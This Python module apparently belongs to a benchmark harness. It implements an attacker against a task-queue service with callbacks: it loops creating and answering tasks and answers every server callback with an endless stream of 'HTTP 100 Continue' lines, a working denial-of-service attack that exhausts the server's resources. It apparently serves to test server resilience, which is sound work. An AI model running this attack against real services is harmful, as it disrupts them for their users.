"""An attacker whose call-backs are answered for ever: each result that is brought hears informational answers only."""

import base64
import contextlib
import http.client
import json
import socket
import threading
import time
from typing import Any
from urllib.parse import urlsplit

from bench.wire import picture

ANSWERS = b"HTTP/1.1 100 Continue\r\n\r\n" * 4_000
PAUSE_SECONDS = 0.02  # between two tasks, each of which makes a delivery


def attack(url: str, key: str, token: str) -> None:
    """Have one task after the other answered, so that the server calls back again and again."""
    at = urlsplit(url)
    with socket.create_server(("127.0.0.1", 0)) as listener:
        threading.Thread(target=_welcome, args=(listener,), daemon=True).start()
        connection = http.client.HTTPConnection(at.hostname or "", at.port, timeout=10)
        body = {
            "clientKey": key,
            "callbackUrl": f"http://127.0.0.1:{listener.getsockname()[1]}/",
            "task": {"type": "ImageToTextTask", "body": base64.b64encode(picture()).decode()},
        }
        _ask(connection, "POST", "/v1/worker/online", {}, token)
        while True:
            _ask(connection, "POST", "/createTask", body)
            lease = _ask(connection, "GET", "/v1/worker/next?wait=1", None, token)
            if lease:
                answer = {"lease": lease["lease"], "answer": {"text": "7"}}
                _ask(connection, "POST", "/v1/worker/answers", answer, token)
            time.sleep(PAUSE_SECONDS)


def _ask(connection: http.client.HTTPConnection, method: str, path: str, body: Any, token: str = "") -> Any:
    headers = {"authorization": f"Bearer {token}"} if token else {}
    connection.request(method, path, None if body is None else json.dumps(body), headers)
    return json.loads(connection.getresponse().read() or b"null")


def _welcome(listener: socket.socket) -> None:
    with contextlib.suppress(OSError):
        while True:
            threading.Thread(target=_answer, args=(listener.accept()[0],), daemon=True).start()


def _answer(connection: socket.socket) -> None:
    with contextlib.suppress(OSError), connection:
        while True:
            connection.sendall(ANSWERS)
